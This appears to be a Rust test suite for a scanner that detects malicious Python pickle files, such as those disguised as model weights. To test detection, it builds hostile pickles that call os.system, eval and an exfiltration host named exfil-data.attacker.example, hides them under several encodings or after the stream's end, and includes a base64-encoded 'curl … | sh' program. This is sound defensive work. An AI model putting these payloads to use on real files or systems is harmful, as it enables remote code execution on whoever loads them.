//! What a pickle holds and no loader runs by itself: files in texts, programs, and bytes behind the
//! end; and calls that look harmless.

use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use custos_core::finding::Severity;
use custos_scan::{FileReport, State};
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};

use super::{Assembler, look, rules};

fn bad() -> Vec<u8> {
    Assembler::protocol(4).call("posix", "system", "id").stop()
}

fn harmless() -> Vec<u8> {
    let dict = Assembler::protocol(4).raw(b"}").text("size");
    dict.raw(b"K\x01s").text("kind").raw(b"0").stop()
}

// A dictionary that holds a text under an ordinary key.
fn holding(text: &[u8]) -> Vec<u8> {
    let len = u32::try_from(text.len()).unwrap().to_le_bytes();
    let key = Assembler::protocol(4).raw(b"}").text("encoded_weights");
    key.raw(b"X").raw(&len).raw(text).raw(b"s").stop()
}

fn hex(bytes: &[u8]) -> Vec<u8> {
    let digits = bytes.iter().map(|byte| format!("{byte:02x}"));
    digits.collect::<String>().into_bytes()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn base64(bytes: &[u8]) -> Vec<u8> {
    STANDARD.encode(bytes).into_bytes()
}

fn severity_of(report: &FileReport, rule: &str) -> Option<Severity> {
    let found = report.findings.iter().filter(|one| one.rule == rule);
    found.map(|one| one.severity).max()
}

type Coding = fn(&[u8]) -> Vec<u8>;

#[test]
fn files_in_texts_are_decoded_and_looked_at() {
    let codings: [(&str, Coding); 7] = [
        ("hex", hex),
        ("base64", base64),
        ("base64", |bytes| URL_SAFE_NO_PAD.encode(bytes).into_bytes()),
        ("base64.zlib", |bytes| base64(&zlib(bytes))),
        ("hex.gzip", |bytes| hex(&gzip(bytes))),
        ("base64.base64", |bytes| base64(&base64(bytes))),
        ("base64.zlib.hex", |bytes| base64(&zlib(&hex(bytes)))),
    ];
    let old = b"cposix\nsystem\n(S'id'\ntR.".to_vec();
    for (name, coding) in codings {
        for stream in [bad(), old.clone()] {
            let report = look(&holding(&coding(&stream)));
            // Nobody loads it by itself: never critical.
            assert_eq!(
                severity_of(&report, "pickle/dangerous-call"),
                Some(Severity::High),
                "{name}: {report:#?}"
            );
            assert_eq!(
                severity_of(&report, "pickle/encoded-file"),
                Some(Severity::Medium),
                "{name}: {report:#?}"
            );
            let place = &report.findings[0].location.path;
            assert!(place.starts_with(&format!("x!{name}@")), "{place}");
        }
        // The twin calls nothing: worth a look, and no more.
        let twin = look(&holding(&coding(&harmless())));
        assert_eq!(twin.worst(), Some(Severity::Medium), "{name}: {twin:#?}");
        assert_eq!(twin.state(Severity::High), State::Clean, "{name}");
    }
    // As bytes, and in the quotes of protocol 0.
    let text = base64(&bad());
    let mut bytes = Assembler::protocol(4)
        .raw(b"C")
        .raw(&[text.len().try_into().unwrap()]);
    bytes = bytes.raw(&text);
    let quoted = [b"S'", text.as_slice(), b"'\n."].concat();
    for stream in [bytes.stop(), quoted] {
        let report = look(&stream);
        assert!(
            rules(&report).contains(&"pickle/dangerous-call"),
            "{report:#?}"
        );
    }
}

#[test]
fn texts_that_only_look_encoded_are_texts() {
    let digest = "8004b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e8f00b204";
    for text in [
        digest,
        "gASVbeginsLikeOneAndIsNone",
        "internationalization",
        "attention_weights_of_layer_12",
        "aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzZW50ZW5jZQ==",
    ] {
        let report = look(&holding(text.as_bytes()));
        assert!(report.findings.is_empty(), "{text}: {report:#?}");
        assert_eq!(report.state(Severity::High), State::Clean, "{text}");
    }
}

#[test]
fn programs_in_texts_are_told_and_do_not_fail_a_file() {
    let program = b"import os\nos.system('curl http://x.example/a | sh')\n";
    let report = look(&holding(&base64(program)));
    assert_eq!(rules(&report), ["pickle/encoded-program"]);
    assert_eq!(report.worst(), Some(Severity::Medium));
    let twin = look(&holding(&base64(b"import math\nprint(math.sqrt(2))\n")));
    assert!(twin.findings.is_empty(), "{twin:#?}");
    // As the argument of something nobody knows, such a text is what the call is for.
    let call = |text: &[u8]| {
        let text = String::from_utf8(text.to_vec()).unwrap();
        look(
            &Assembler::protocol(4)
                .call("mine.tools", "restore", &text)
                .stop(),
        )
    };
    let given = call(&base64(&bad()));
    assert_eq!(
        severity_of(&given, "pickle/unknown-call"),
        Some(Severity::High)
    );
    let plain = call(b"a plain name");
    assert_eq!(plain.worst(), Some(Severity::Medium));
}

#[test]
fn functions_of_python_are_called_for_what_they_do() {
    let call = |name: &str| look(&Assembler::protocol(4).call("builtins", name, "x").stop());
    for name in ["print", "repr", "id", "dir", "format", "callable"] {
        assert_eq!(call(name).worst(), Some(Severity::High), "{name}");
    }
    // A class, and what iterators are made by.
    assert_eq!(call("OSError").worst(), Some(Severity::Medium));
    assert_eq!(call("list").worst(), None);
    assert_eq!(call("iter").worst(), None);
    // To hand a function on is no call of it.
    let named = Assembler::protocol(4)
        .stack_global("builtins", "print")
        .stop();
    assert!(look(&named).worst() < Some(Severity::High));
    let partial = Assembler::protocol(4).stack_global("functools", "partial");
    let partial = partial
        .stack_global("builtins", "repr")
        .raw(b"\x85R")
        .stop();
    assert!(look(&partial).worst() < Some(Severity::High));
}

#[test]
fn machines_and_ports_are_what_a_call_is_for() {
    let call = |host: &str, port: u16| {
        let stream = Assembler::protocol(4).stack_global("mine.telemetry", "send");
        let pair = stream
            .text(host)
            .raw(b"M")
            .raw(&port.to_le_bytes())
            .raw(b"\x86");
        look(&pair.raw(b"\x85R").stop())
    };
    let report = call("exfil-data.attacker.example", 443);
    assert_eq!(report.worst(), Some(Severity::High), "{report:#?}");
    assert_eq!(call("10.1.2.3", 9000).worst(), Some(Severity::High));
    // A layer and its place are none.
    assert_eq!(call("encoder.layer", 12).worst(), Some(Severity::Medium));
}

#[test]
fn imports_by_name_are_found_in_old_numpy() {
    let call = |name: &str| {
        Assembler::protocol(4)
            .call("numpy.lib.utils", name, "os")
            .stop()
    };
    let report = look(&call("_makenamedict"));
    assert_eq!(report.findings[0].rule, "pickle/dangerous-call");
    assert_eq!(look(&call("deprecate")).worst(), Some(Severity::Medium));
}

// A list with an array of joblib: `numbers` lie behind its description.
fn joblib(numbers: &[u8]) -> Vec<u8> {
    let count = u8::try_from(numbers.len() / 8).unwrap();
    Assembler::protocol(4)
        .raw(b"](")
        .stack_global("joblib.numpy_pickle", "NumpyArrayWrapper")
        .raw(b")\x81}(")
        .text("subclass")
        .stack_global("numpy", "ndarray")
        .text("shape")
        .raw(&[b'K', count, 0x85])
        .text("order")
        .text("C")
        .text("dtype")
        .stack_global("numpy", "dtype")
        .text("f8")
        .raw(b"\x89\x88\x87R(K\x03")
        .text("<")
        .raw(b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tbub")
        .raw(numbers)
        .raw(b"e")
        .stop()
}

#[test]
fn arrays_of_joblib_are_read_as_opcodes_too() {
    let payload = Assembler::default().call("builtins", "eval", "40+2");
    let mut numbers = payload.stop();
    numbers.pop();
    numbers.resize(64, b'0');
    let report = look(&joblib(&numbers));
    assert_eq!(report.worst(), Some(Severity::Critical), "{report:#?}");
    assert!(rules(&report).contains(&"pickle/dangerous-call"));
    let values: Vec<u8> = (0..8_u8).flat_map(|n| f64::from(n).to_le_bytes()).collect();
    let twin = look(&joblib(&values));
    assert!(twin.findings.is_empty(), "{twin:#?}");
    assert_eq!(twin.state(Severity::High), State::Clean);
}

#[test]
fn what_lies_behind_the_end_is_found_by_what_it_is() {
    let plain = Assembler::protocol(4).raw(b"N").stop();
    let behind = |rest: &[u8]| look(&[plain.as_slice(), rest].concat());
    // Streams of protocol 0 have no mark.
    let old = behind(b"\xff\xff\xff\xffcos\nsystem\n(S'id'\ntR.");
    assert!(rules(&old).contains(&"pickle/dangerous-call"), "{old:#?}");
    // A name that is harmless begins nothing, and the rest is not understood.
    let twin = behind(b"\xff\xff\xff\xffcmine\nsystem\n(S'id'\ntR.");
    assert!(twin.worst() < Some(Severity::High), "{twin:#?}");
    assert_eq!(twin.state(Severity::High), State::Incomplete);
    // Programs.
    let mut pe = vec![0; 256];
    pe[..2].copy_from_slice(b"MZ");
    pe[60] = 128;
    pe[128..132].copy_from_slice(b"PE\0\0");
    for before in [0, 40] {
        let report = behind(&[vec![0; before], pe.clone()].concat());
        assert!(
            rules(&report).contains(&"executable/program"),
            "{report:#?}"
        );
        let hidden = severity_of(&report, "pickle/program-behind-end");
        assert_eq!(hidden, Some(Severity::High), "{report:#?}");
    }
    pe[128] = 0;
    assert_eq!(behind(&pe).state(Severity::High), State::Incomplete);
}
